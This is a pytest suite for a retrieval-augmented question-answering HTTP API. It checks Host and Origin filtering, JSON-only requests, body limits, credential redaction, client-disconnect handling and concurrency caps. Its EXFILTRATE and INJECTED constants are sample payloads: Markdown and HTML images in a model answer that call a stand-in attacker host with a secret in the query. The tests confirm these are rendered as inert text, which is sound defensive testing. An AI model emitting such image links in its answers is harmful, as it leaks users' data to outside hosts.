"""What keeps web pages and greedy requests out of the HTTP API: the Host check, JSON-only POSTs, the body limit,
safe Markdown in answers, no credentials in /health, answers that stop when their client leaves, and the cap on
answers at once."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator, Sequence
from typing import Any

import anyio
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt
from mcp import Client
from pydantic_ai.usage import RunUsage

from crag import cli, prompts
from crag.api import create_app
from crag.config import Settings, load_settings, redacted_url
from crag.evaluator import Grade, Grading
from crag.markdown import model_markdown, safe_stream
from crag.mcp import ToolBackend, create_server
from crag.models import resolve_backend
from crag.pipeline import Pipeline
from crag.types import Method
from tests.apiclient import DOC, LOCAL, QUESTION, hash_embedder, make_client, mcp_call, sse
from tests.fakes import FakeSearcher, FixedEvaluator, ScriptedModel, chunk, pipeline

ASK = {"question": QUESTION}
CHAT = {"model": "crag-kb", "messages": [{"role": "user", "content": QUESTION}]}
EXFILTRATE = "![x](https://attacker/?q=secret)"


def app_over(settings: Settings, fake: Pipeline) -> FastAPI:
    return create_app(settings, pipeline_factory=lambda s: fake, embedder_factory=hash_embedder)


# ---------------------------------------------------------------------------------------------
# Host and Origin


def test_a_request_for_a_foreign_host_is_refused(settings: Settings) -> None:
    """A page that renamed itself to 127.0.0.1 (DNS rebinding) sends its own name as Host: nothing is answered."""
    foreign = {"Host": "attacker.example:8000"}
    with make_client(settings) as client:
        asked = client.post("/ask", json=ASK, headers=foreign)
        scopes = client.get("/scopes", headers=foreign)
        models = client.get("/v1/models", headers=foreign)
        nameless = client.get("/scopes", headers={"Host": ""})
    assert asked.status_code == scopes.status_code == models.status_code == nameless.status_code == 421
    assert "--allowed-host" in asked.json()["error"] and "attacker.example" in scopes.json()["error"]
    assert models.json()["error"]["code"] == "misdirected_request"  # OpenAI's shape under /v1


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.1:8000", "localhost", "localhost:8000", "[::1]:8000"])
def test_this_machines_names_are_answered_on_any_port(settings: Settings, host: str) -> None:
    with make_client(settings) as client:
        assert client.post("/ask", json=ASK, headers={"Host": host}).status_code == 200
        assert client.get("/scopes", headers={"Host": host}).status_code == 200
        assert client.get("/v1/models", headers={"Host": host}).status_code == 200


def test_the_address_a_connection_came_to_is_answered(settings: Settings) -> None:
    """A server bound to a LAN address answers requests for that address; other names still get 421."""
    with TestClient(app_over(settings, pipeline(settings, [chunk(DOC)], [0.9])), base_url="http://192.168.1.5") as c:
        assert c.get("/scopes").status_code == 200
        assert c.get("/scopes", headers={"Host": "192.168.1.6"}).status_code == 421
        assert c.get("/scopes", headers={"Host": "rebound.example"}).status_code == 421


def test_an_allowed_host_is_answered(settings: Settings) -> None:
    proxied = settings.model_copy(update={"allowed_hosts": ["kb.example.org"]})
    with make_client(proxied) as client:
        named = {"Host": "kb.example.org:443", "Origin": "https://kb.example.org"}
        assert client.post("/ask", json=ASK, headers=named).status_code == 200
        assert client.get("/v1/models", headers=named).status_code == 200
        assert client.get("/scopes", headers={"Host": "other.example.org"}).status_code == 421


def test_a_page_of_another_site_is_refused_by_its_origin(settings: Settings) -> None:
    with make_client(settings) as client:
        refused = client.post("/ask", json=ASK, headers={"Origin": "https://attacker.example"})
        sandboxed = client.post("/ask", json=ASK, headers={"Origin": "null"})
        own = client.post("/ask", json=ASK, headers={"Origin": "http://127.0.0.1:8000"})  # the /docs page
    assert refused.status_code == sandboxed.status_code == 403 and "other sites" in refused.json()["error"]
    assert own.status_code == 200


def test_serve_adds_allowed_hosts_to_the_setting(monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    import uvicorn

    monkeypatch.setenv("CRAG_ALLOWED_HOSTS", "kb.example.org")
    monkeypatch.setattr(uvicorn, "run", lambda *args, **kwargs: None)
    assert cli.main(["serve", "--allowed-host", "Proxy.Example:8443", "--allowed-host", "kb.internal"]) == 0
    assert load_settings().allowed_hosts == ["kb.example.org", "proxy.example", "kb.internal"]
    assert "proxy.example" in capsys.readouterr().err

    assert cli.main(["serve", "--allowed-host", "bad/name"]) == 2
    assert "CRAG_ALLOWED_HOSTS" in capsys.readouterr().err


# ---------------------------------------------------------------------------------------------
# JSON only, and not too much of it


def test_a_post_that_is_not_json_is_refused_before_anything_starts(settings: Settings) -> None:
    """A page may send a form or text/plain to another site without asking: no build, no answer starts."""
    settings.files_dir.mkdir()
    with make_client(settings) as client:
        bare = client.post("/index")
        text = client.post("/index", content=b"{}", headers={"Content-Type": "text/plain"})
        chat = client.post("/v1/chat/completions", content=json.dumps(CHAT), headers={"Content-Type": "text/plain"})
        assert not client.app.state.service.builds.running and client.app.state.service.builds.get("x") is None
        started = client.post("/index", json={})
        assert started.status_code == 202
        assert client.post("/index", content=b"", headers={"Content-Type": "application/json"}).status_code in (
            202,
            409,  # the first build still runs
        )
        deadline = time.monotonic() + 30
        while client.app.state.service.builds.running and time.monotonic() < deadline:
            time.sleep(0.02)
    assert bare.status_code == text.status_code == chat.status_code == 415
    assert "Content-Type: application/json" in bare.json()["error"]
    assert chat.json()["error"]["code"] == "unsupported_media_type"


def test_a_body_over_the_limit_is_refused_before_it_is_read_whole(settings: Settings) -> None:
    model = ScriptedModel()
    fake = pipeline(settings, [chunk(DOC)], [0.9], model)
    big = {**CHAT, "messages": [{"role": "user", "content": "x" * 100_000}] * 20 + CHAT["messages"]}
    body = json.dumps(big).encode()
    assert len(body) > 2_000_000
    with TestClient(app_over(settings, fake), base_url=LOCAL) as client:
        declared = client.post("/v1/chat/completions", content=body, headers={"Content-Type": "application/json"})

        def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
            for start in range(0, len(body), 64 * 1024):
                yield body[start : start + 64 * 1024]

        chunked = client.post("/v1/chat/completions", content=chunks(), headers={"Content-Type": "application/json"})
        asked = client.post(
            "/ask", content=json.dumps({"question": "x" * 2_000_000}), headers={"Content-Type": "application/json"}
        )
        small = client.post("/v1/chat/completions", json=CHAT)
    for refused in (declared, chunked):
        assert refused.status_code == 413
        assert refused.json()["error"]["code"] == "request_too_large"
        assert "1024 KB" in refused.json()["error"]["message"]
    assert asked.status_code == 413 and "CRAG_API_MAX_BODY_KB" in asked.json()["error"]
    assert small.status_code == 200 and model.instructions.count(prompts.ANSWER) == 1  # only the small one


# ---------------------------------------------------------------------------------------------
# Answers as safe Markdown


def rendered(markdown: str) -> str:
    """The HTML a Markdown client (CommonMark, raw HTML passed through) makes of it."""
    return MarkdownIt("commonmark").render(markdown)


def assert_harmless(markdown: str) -> None:
    html = rendered(markdown)
    assert "<img" not in html and 'href="https://attacker' not in html and "<a " not in html, html


# A manual that gives the address (as text), and a model that makes it an image and a link: kept by grounding, since
# a source holds it, and shown as typed.
LINKED = DOC + " Updates for the widget are at https://attacker/?q=secret every month."
INJECTED = (
    f"The widget needs eight hundred megabytes [1]. Updates are at {EXFILTRATE} <img src=https://attacker/?q=secret>"
)


def test_v1_answers_show_images_and_links_as_typed(settings: Settings) -> None:
    assert "<img" in rendered(INJECTED)  # what a client such as Open WebUI would fetch without the rule
    fake = pipeline(settings, [chunk(LINKED)], [0.9], ScriptedModel(answer=INJECTED))
    with TestClient(app_over(settings, fake), base_url=LOCAL) as client:
        whole = client.post("/v1/chat/completions", json=CHAT).json()
        streamed = client.post("/v1/chat/completions", json={**CHAT, "stream": True})
        asked = client.post("/ask", json=ASK).json()
    content = whole["choices"][0]["message"]["content"]
    assert_harmless(content)
    assert "https://attacker/?q=secret" in content  # shown, as text
    deltas = [
        json.loads(line[len("data: ") :])
        for line in streamed.text.splitlines()
        if line.startswith("data: {") and '"choices"' in line
    ]
    text = "".join(d["choices"][0]["delta"].get("content") or "" for d in deltas if d["choices"])
    assert_harmless(text)
    assert text.split() == content.split()  # the stream says what the whole answer says
    assert whole["crag"]["answer"] == asked["answer"] == content.split("\n\n**Sources**")[0]
    assert_harmless(asked["answer"])


def test_ask_stream_shows_images_as_typed(settings: Settings) -> None:
    fake = pipeline(settings, [chunk(LINKED)], [0.9], ScriptedModel(answer=INJECTED))
    with TestClient(app_over(settings, fake), base_url=LOCAL) as client:
        events = sse(client.post("/ask", json={**ASK, "stream": True}).text.splitlines())
    tokens = "".join(data["text"] for kind, data in events if kind == "token")
    assert_harmless(tokens)
    assert events[-1][0] == "done" and events[-1][1]["answer"] == tokens.strip()


def test_mcp_ask_shows_images_as_typed(settings: Settings) -> None:
    fake = pipeline(settings, [chunk(LINKED)], [0.9], ScriptedModel(answer=INJECTED))

    async def main() -> Any:
        async with Client(create_server(ToolBackend(settings, lambda: fake))) as client:
            return await client.call_tool("ask", {"question": QUESTION})

    result = anyio.run(main)
    assert_harmless(result.structured_content["answer"])
    assert_harmless(result.content[0].text)
    assert "https://attacker/?q=secret" in result.structured_content["answer"]


def test_the_rule_holds_however_the_stream_is_cut() -> None:
    for size in (1, 2, 3, 5):
        pieces = [INJECTED[i : i + size] for i in range(0, len(INJECTED), size)]
        streamed = "".join(safe_stream(pieces, html=True))
        assert streamed == model_markdown(INJECTED, html=True)
        assert_harmless(streamed)
    fenced = "Run:\n\n```\n![x](y) <b>\n```\n"
    assert model_markdown(fenced, html=True) == fenced  # code shows as it is, and renders no image


# ---------------------------------------------------------------------------------------------
# Credentials in the base URL


SECRET_URL = "https://user:hunter2@llm.example.org:8443/v1?api_key=sk-SECRET&api-version=2024-06-01&token=T0KEN"


def test_a_base_url_is_shown_without_its_credentials() -> None:
    shown = redacted_url(SECRET_URL)
    assert shown == "https://***@llm.example.org:8443/v1?api_key=***&api-version=2024-06-01&token=***"
    assert redacted_url("http://127.0.0.1:8000/v1") == "http://127.0.0.1:8000/v1"


def test_health_and_the_backend_reason_hide_the_base_urls_credentials(settings: Settings) -> None:
    """/health shows the backend's reason, and the sidebar shows the same reason under the model's name."""
    served = settings.model_copy(update={"llm_backend": "openai", "openai_base_url": SECRET_URL, "chat_model": "m"})
    reason = resolve_backend(served).reason
    with make_client(served) as client:
        health = client.get("/health").text
    for secret in ("hunter2", "sk-SECRET", "T0KEN", "user:"):
        assert secret not in reason and secret not in health
    assert "llm.example.org:8443/v1" in reason and "llm.example.org:8443/v1" in health


# ---------------------------------------------------------------------------------------------
# A client that leaves, and too many at once


class GatedGrader(FixedEvaluator):
    """Holds the answer in its grading stage until the test lets it go (or 10 s pass)."""

    def __init__(self) -> None:
        super().__init__([0.9])
        self.entered = threading.Event()
        self.release = threading.Event()

    def grade(self, question: str, texts: Sequence[str], usage: RunUsage | None = None) -> Grading:
        self.entered.set()
        self.release.wait(10)
        return Grading([Grade(0.9, Method.SIMILARITY) for _ in texts])


def answer_threads() -> list[threading.Thread]:
    return [t for t in threading.enumerate() if t.name == "crag-ask"]


def leave_while_grading(app: FastAPI, path: str, body: dict[str, Any], grader: GatedGrader) -> list[dict]:
    """POST ``body`` straight to the ASGI app, and leave (http.disconnect) once the answer is being graded."""
    raw = json.dumps(body).encode()
    sent: list[dict] = []
    gone = anyio.Event()
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(b"host", b"127.0.0.1:8000"), (b"content-type", b"application/json")],
        "client": ("127.0.0.1", 50000),
        "server": ("127.0.0.1", 8000),
    }
    read = False

    async def receive() -> dict:
        nonlocal read
        if not read:
            read = True
            return {"type": "http.request", "body": raw, "more_body": False}
        if not gone.is_set():  # as uvicorn: once the client is gone, at once
            await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict) -> None:
        sent.append(message)

    async def main() -> None:
        async def leave() -> None:
            assert await anyio.to_thread.run_sync(grader.entered.wait, 30)
            gone.set()

        async with anyio.create_task_group() as group:
            group.start_soon(leave)
            await app(scope, receive, send)

    anyio.run(main)
    return sent


@pytest.mark.parametrize(
    ("path", "body"),
    [("/ask", ASK), ("/ask", {**ASK, "stream": True}), ("/v1/chat/completions", CHAT)]
    + [("/v1/chat/completions", {**CHAT, "stream": True})],
    ids=["ask", "ask-stream", "v1", "v1-stream"],
)
def test_an_answer_stops_when_its_client_leaves(settings: Settings, path: str, body: dict[str, Any]) -> None:
    """Once the client is gone, the answer goes no further than the stage it is in: no web search, no page
    fetched, no model asked to write for nobody."""
    grader, model, searcher = GatedGrader(), ScriptedModel(), FakeSearcher()
    fake = pipeline(settings, [chunk(DOC)], [0.9], model, searcher, evaluator=grader)
    app = app_over(settings, fake)
    leave_while_grading(app, path, body, grader)
    grader.release.set()  # the grading ends now, after the client left
    for thread in answer_threads():
        thread.join(30)
    assert not answer_threads()
    assert prompts.ANSWER not in model.instructions and searcher.queries == []  # the question was read, no more
    # Its place among the answers made at once is free again.
    with TestClient(app, base_url=LOCAL) as client:
        assert client.post("/ask", json=ASK).status_code == 200


def test_answers_past_the_cap_are_told_when_to_retry(settings: Settings) -> None:
    capped = settings.model_copy(update={"api_max_answers": 1})
    grader = GatedGrader()
    fake = pipeline(capped, [chunk(DOC)], [0.9], evaluator=grader)
    app = app_over(capped, fake)
    with TestClient(app, base_url=LOCAL) as client:
        first: list[int] = []
        running = threading.Thread(target=lambda: first.append(client.post("/ask", json=ASK).status_code))
        running.start()
        assert grader.entered.wait(30)
        try:
            busy = client.post("/ask", json=ASK)
            busy_v1 = client.post("/v1/chat/completions", json={**CHAT, "stream": True})
            busy_mcp = mcp_call(client, "ask")
            busy_search = mcp_call(client, "search")
        finally:
            grader.release.set()
            running.join(30)
        after = client.post("/ask", json=ASK)
    assert first == [200] and after.status_code == 200
    assert busy.status_code == 429 and busy.headers["retry-after"] == "5"
    assert "CRAG_API_MAX_ANSWERS" in busy.json()["error"] and "ask again" in busy.json()["error"]
    assert busy_v1.status_code == 429 and busy_v1.json()["error"]["code"] == "too_many_answers"
    assert busy_v1.headers["x-should-retry"] == "true"  # the openai SDK waits Retry-After and tries again
    assert "CRAG_API_MAX_ANSWERS" in busy_mcp["content"][0]["text"] and busy_mcp["isError"]
    assert "CRAG_API_MAX_ANSWERS" in busy_search["content"][0]["text"] and busy_search["isError"]


def test_an_mcp_search_takes_one_of_the_answers_made_at_once(settings: Settings) -> None:
    """A search grades and refines as an answer does: while one runs, an answer past the cap is refused, and its
    place is free again once it ends."""
    capped = settings.model_copy(update={"api_max_answers": 1})
    grader = GatedGrader()
    app = app_over(capped, pipeline(capped, [chunk(DOC)], [0.9], evaluator=grader))
    with TestClient(app, base_url=LOCAL) as client:
        searched: list[dict] = []
        running = threading.Thread(target=lambda: searched.append(mcp_call(client, "search")))
        running.start()
        assert grader.entered.wait(30)
        try:
            busy = client.post("/ask", json=ASK)
        finally:
            grader.release.set()
            running.join(30)
        after = mcp_call(client, "search")
    assert busy.status_code == 429 and "CRAG_API_MAX_ANSWERS" in busy.json()["error"]
    assert not searched[0]["isError"] and searched[0]["structuredContent"]["action"] == "correct"
    assert not after["isError"], "the search gave its place back"
